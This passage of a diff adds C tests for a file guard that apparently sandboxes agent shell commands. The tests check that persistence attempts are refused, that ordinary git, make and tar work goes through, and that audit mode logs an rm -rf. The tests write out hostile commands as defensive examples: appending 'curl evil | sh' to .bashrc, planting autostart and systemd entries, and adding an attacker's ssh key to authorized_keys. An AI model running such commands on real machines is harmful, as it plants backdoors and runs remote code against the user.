+	cr_expect(strstr(r.out, "AAAAC3Nzapublic") != NULL, "stdout:\n%s\nstderr:\n%s", r.out,
+		  r.err);
+	expect_quiet();
+}
+
+/* ---- persistence ------------------------------------------------------------ */
+
+Test(programs, append_to_bashrc)
+{
+	agt_setup(&t, "persist-bashrc");
+	const char *f = P("%s/.bashrc", t.home);
+	put(f, "export EDITOR=vi\n");
+
+	agt_sh(&t, &r, "printf 'curl evil | sh\\n' >> \"$HOME/.bashrc\"");
+	expect_status_failed();
+	expect_file(f, "export EDITOR=vi\n");
+	expect_denied("write", f, "persistence");
+}
+
+Test(programs, create_autostart_entry)
+{
+	agt_setup(&t, "persist-autostart");
+	agt_mkdirs(P("%s/.config/autostart", t.home));
+	const char *f = P("%s/.config/autostart/x.desktop", t.home);
+
+	agt_sh(&t, &r, "printf '[Desktop Entry]\\nExec=evil\\n' > ~/.config/autostart/x.desktop");
+	expect_status_failed();
+	cr_expect(!agt_exists(f), "the autostart entry was planted");
+	expect_denied("create", f, "persistence");
+}
+
+Test(programs, create_systemd_user_unit)
+{
+	agt_setup(&t, "persist-systemd");
+	agt_mkdirs(P("%s/.config/systemd/user", t.home));
+	const char *f = P("%s/.config/systemd/user/x.service", t.home);
+
+	agt_sh(&t, &r, "printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/x.service");
+	expect_status_failed();
+	cr_expect(!agt_exists(f), "the systemd unit was planted");
+	expect_denied("create", f, "persistence");
+}
+
+Test(programs, append_to_authorized_keys)
+{
+	agt_setup(&t, "persist-authkeys");
+	const char *f = P("%s/.ssh/authorized_keys", t.home);
+	put(f, "ssh-ed25519 AAAAgood me@laptop\n");
+
+	agt_sh(&t, &r, "echo 'ssh-rsa AAAAevil attacker' >> ~/.ssh/authorized_keys");
+	expect_status_failed();
+	expect_file(f, "ssh-ed25519 AAAAgood me@laptop\n");
+	expect_denied("write", f, "persistence");
+}
+
+Test(programs, create_authorized_keys)
+{
+	agt_setup(&t, "persist-authkeys-new");
+	agt_mkdirs(P("%s/.ssh", t.home));
+	const char *f = P("%s/.ssh/authorized_keys", t.home);
+
+	agt_sh(&t, &r, "echo 'ssh-rsa AAAAevil attacker' > ~/.ssh/authorized_keys");
+	expect_status_failed();
+	cr_expect(!agt_exists(f), "authorized_keys was planted");
+	expect_denied("create", f, "persistence");
+}
+
+Test(programs, sed_in_place_on_bashrc)
+{
+	agt_setup(&t, "persist-sed-bashrc");
+	const char *f = P("%s/.bashrc", t.home);
+	put(f, "export EDITOR=vi\n");
+
+	agt_sh(&t, &r, "sed -i '$a curl evil | sh' ~/.bashrc");
+	expect_status_failed();
+	expect_file(f, "export EDITOR=vi\n");
+	cr_expect_eq(log_match("op", "rename", "path2", f, "rule", "persistence", NULL), 1,
+		     "no rename onto %s refused; log:\n%s", f, logtext());
+	cr_expect(strstr(r.err, P("-> %s (rule persistence)\n", f)) != NULL, "stderr:\n%s", r.err);
+}
+
+Test(programs, mv_and_symlink_into_autostart)
+{
+	agt_setup(&t, "persist-mv-autostart");
+	const char *dir = P("%s/.config/autostart", t.home);
+	const char *src = P("%s/evil.desktop", t.ws);
+	agt_mkdirs(dir);
+	put(src, "[Desktop Entry]\nExec=evil\n");
+
+	agt_sh(&t, &r,
+	       "mv evil.desktop ~/.config/autostart/x.desktop; "
+	       "ln -s \"$PWD/evil.desktop\" ~/.config/autostart/y.desktop; "
+	       "cp evil.desktop ~/.config/autostart/z.desktop");
+	expect_status_failed();
+	expect_file(src, "[Desktop Entry]\nExec=evil\n");
+	struct agt_result ls;
+	agt_sh_unguarded(&t, &ls, "ls -A '%s'", dir);
+	cr_expect_str_eq(ls.out, "", "planted in autostart: %s", ls.out);
+	/* The rename is refused for the name it would create. */
+	const char *x = P("%s/x.desktop", dir);
+	cr_expect_eq(
+	    log_match("path", src, "path2", x, "rule", "persistence", "mode", "enforce", NULL), 1,
+	    "no refusal of the move to %s; log:\n%s", x, logtext());
+	expect_denied("create", P("%s/y.desktop", dir), "persistence");
+	expect_denied("create", P("%s/z.desktop", dir), "persistence");
+}
+
+/* ---- ordinary work: the guard says nothing ----------------------------------- */
+
+Test(programs, git_everyday)
+{
+	agt_setup(&t, "work-git");
+	put(P("%s/main.c", t.ws), "int main(void) { return 0; }\n");
+
+	agt_sh(&t, &r,
+	       "set -e\n"
+	       "git add main.c\n"
+	       "git commit -q -m first\n"
+	       "git branch feature\n"
+	       "git checkout -q feature\n"
+	       "echo '/* more */' >> main.c\n"
+	       "git commit -q -am second\n"
+	       "git checkout -q -\n"
+	       "git status --short\n"
+	       "git gc -q\n"
+	       "git log --oneline feature | wc -l\n");
+	expect_status_ok();
+	cr_expect(strstr(r.out, "2") != NULL, "feature has not two commits:\n%s", r.out);
+	expect_quiet();
+}
+
+Test(programs, cc_and_make)
+{
+	agt_setup(&t, "work-make");
+	put(P("%s/hello.c", t.ws),
+	    "#include <stdio.h>\nint main(void) { puts(\"hello from make\"); return 0; }\n");
+	put(P("%s/Makefile", t.ws), "hello: hello.o\n\tcc -o $@ $^\n"
+				    "hello.o: hello.c\n\tcc -O2 -c -o $@ $<\n"
+				    "clean:\n\trm -f hello hello.o\n");
+
+	agt_sh(&t, &r, "set -e; make -s; ./hello; make -s clean; make -s; test -x hello");
+	expect_status_ok();
+	cr_expect(strstr(r.out, "hello from make") != NULL, "stdout:\n%s\nstderr:\n%s", r.out,
+		  r.err);
+	expect_quiet();
+}
+
+Test(programs, sed_in_place)
+{
+	agt_setup(&t, "work-sed");
+	const char *f = P("%s/config.txt", t.ws);
+	put(f, "colour = red\n");
+
+	agt_sh(&t, &r, "sed -i 's/red/blue/' config.txt");
+	expect_status_ok();
+	expect_file(f, "colour = blue\n");
+	expect_quiet();
+}
+
+Test(programs, tar_round_trip)
+{
+	agt_setup(&t, "work-tar");
+	put(P("%s/src/a.txt", t.ws), "alpha\n");
+	put(P("%s/src/deep/b.txt", t.ws), "beta\n");
+
+	agt_sh(&t, &r,
+	       "set -e; tar czf src.tgz src; mkdir unpacked; tar xzf src.tgz -C unpacked; "
+	       "diff -r src unpacked/src");
+	expect_status_ok();
+	expect_file(P("%s/unpacked/src/deep/b.txt", t.ws), "beta\n");
+	expect_quiet();
+}
+
+Test(programs, python_venv, .timeout = 180)
+{
+	agt_setup(&t, "work-venv");
+	if (agt_sh_unguarded(&t, &r, "python3 -c 'import venv, ensurepip'") != 0)
+		cr_skip_test("python3 has no venv/ensurepip module (apt-get install python3-venv)");
+
+	agt_sh(&t, &r,
+	       "python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'");
+	expect_status_ok();
+	cr_expect(strstr(r.out, "/.venv") != NULL, "stdout:\n%s\nstderr:\n%s", r.out, r.err);
+	expect_quiet();
+}
+
+Test(programs, npm_init)
+{
+	agt_setup(&t, "work-npm");
+	if (!program_exists("npm"))
+		cr_skip_test("npm is not installed (apt-get install npm)");
+	const char *argv[] = {"npm", "init", "-y", NULL};
+	const char *env[] = {"npm_config_update_notifier=false", "npm_config_fund=false",
+			     "npm_config_audit=false", NULL};
+
+	agt_run(&t, &r, argv, env);
+	expect_status_ok();
+	cr_expect(agt_exists(P("%s/package.json", t.ws)), "no package.json");
+	expect_quiet();
+}
+
+Test(programs, mkdir_and_rm_rf_build)
+{
+	agt_setup(&t, "work-build-dir");
+
+	agt_sh(&t, &r,
+	       "set -e; mkdir -p build/obj/deep; echo x > build/obj/deep/a.o; rm -rf build");
+	expect_status_ok();
+	cr_expect(!agt_exists(P("%s/build", t.ws)), "build/ is still there");
+	expect_quiet();
+}
+
+Test(programs, temp_directories)
+{
+	agt_setup(&t, "work-temp");
+
+	agt_sh(&t, &r,
+	       "set -e\n"
+	       "d=$(mktemp -d); echo x > \"$d/a\"; echo y >> \"$d/a\"; mv \"$d/a\" \"$d/b\"\n"
+	       "chmod 600 \"$d/b\"; rm -rf \"$d\"\n"
+	       "echo kept > \"$TMPDIR/kept\"\n"
+	       "f=$(mktemp /tmp/agt-programs.XXXXXX); echo x > \"$f\"; echo y >> \"$f\"\n"
+	       "truncate -s 0 \"$f\"; mv \"$f\" \"$f.2\"; rm \"$f.2\"\n"
+	       "g=$(mktemp -d /tmp/agt-programs.XXXXXX); mkdir -p \"$g/a/b\"; rm -rf \"$g\"\n");
+	expect_status_ok();
+	expect_file(P("%s/kept", t.tmp), "kept\n");
+	expect_quiet();
+}
+
+Test(programs, home_cache_and_history)
+{
+	agt_setup(&t, "work-home-state");
+	const char *hist = P("%s/.bash_history", t.home);
+	put(hist, "ls\n");
+	put(P("%s/.cache/x", t.home), "old\n");
+
+	agt_sh(&t, &r,
+	       "set -e; echo new > ~/.cache/x; mkdir -p ~/.cache/tool; "
+	       "echo y > ~/.cache/tool/y; rm -rf ~/.cache/tool; echo 'make' >> ~/.bash_history");
+	expect_status_ok();
+	expect_file(P("%s/.cache/x", t.home), "new\n");
+	expect_file(hist, "ls\nmake\n");
+	expect_quiet();
+}
+
+/* ---- audit mode --------------------------------------------------------------- */
+
+Test(programs, audit_mode_allows_and_logs_every_refusal)
+{
+	agt_setup(&t, "audit-rm-rf");
+	t.audit = true;
+	const char *proj = outside_tree();
+
+	agt_sh(&t, &r, "rm -rf '%s'", proj);
+	expect_status_ok();
+	cr_expect(!agt_exists(proj), "audit mode did not let the delete through");
+	const char *would[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), P("%s/sub", proj),
+			       proj, NULL};
+	for (const char *const *p = would; *p; p++)
+		cr_expect(log_match("op", "delete", "path", *p, "rule", "outside-workspace", "mode",
+				    "audit", NULL) > 0,
+			  "no audit line for the delete of %s; log:\n%s", *p, logtext());
+	int lines = agt_log_lines(&t);
+	cr_expect_geq(lines, 4, "log:\n%s", logtext());
+	cr_expect_eq(log_match("mode", "audit", NULL), lines,
+		     "a line without \"mode\":\"audit\"; log:\n%s", logtext());
+}
